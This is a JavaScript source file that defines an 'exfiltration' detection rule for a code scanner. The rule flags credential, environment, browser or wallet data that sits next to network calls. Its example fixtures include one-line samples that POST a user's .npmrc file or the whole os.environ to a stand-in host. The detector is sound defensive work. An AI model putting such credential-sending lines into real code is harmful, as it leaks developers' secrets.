import { defineRule } from './defineRule.js';

export const exfiltration = defineRule({
  id: 'exfiltration',
  severity: 'high',
  message: 'It takes credentials, or a whole environment, and has a way to send them.',
  why: 'Both in one place is what stealing looks like.',
  match: {
    on: 'near',
    all: [
      ['credential-paths', 'environment-dump', 'browser-data', 'wallet-data'],
      ['uses-network', 'collector-address', 'bare-address', 'shell-payload'],
    ],
  },
  examples: {
    flags: [
      "import fs from 'fs'; fetch('https://example.com/', { method: 'POST', body: fs.readFileSync(home + '/.npmrc') })",
      { path: 'main.py', runtime: 'python', content: 'import os, requests\nrequests.post(url, json=dict(os.environ))' },
    ],
    passes: ["fetch('https://example.com/?' + process.env.REGION)"],
  },
});
